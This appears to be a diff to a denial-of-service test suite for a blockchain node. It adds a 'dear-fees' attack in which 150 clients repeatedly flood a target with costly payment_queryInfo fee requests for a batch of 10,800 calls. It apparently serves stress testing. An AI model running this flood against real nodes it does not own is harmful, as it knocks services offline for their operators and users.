@@ -1,5 +1,5 @@
-import { type Attack, crowd, pause, request, until } from './attack.ts'
-import { batchOf, call, knock, next, post, say, talk } from './client.ts'
+import { type Attack, compactOf, crowd, pause, request, until } from './attack.ts'
+import { batchOf, call, knock, next, post, push, say, talk } from './client.ts'
 
 /** Attacks on what clients share: their turns, what is kept for them, and what the whole node has room for. */
 export const shareAttacks: readonly Attack[] = [
@@ -80,5 +80,23 @@ export const shareAttacks: readonly Attack[] = [
           await next(socket, [], signal)
         }),
       ),
+  },
+  {
+    name: 'dear-fees',
+    what: 'the fee of a batch of 10,800 of the shortest calls, asked for over and over by 150 clients',
+    run: (target, signal) => {
+      const calls = 10_800
+      const batch = `040b00${compactOf(calls)}${'000000'.repeat(calls)}`
+      const fee = post(request('payment_queryInfo', [`0x${compactOf(batch.length / 2)}${batch}`]))
+      return crowd(150, signal, () =>
+        knock(target, '', async (socket) => {
+          socket.resume()
+          while (!signal.aborted && !socket.destroyed) {
+            push(socket, fee)
+            await next(socket, ['data'], signal)
+          }
+        }),
+      )
+    },
   },
 ]
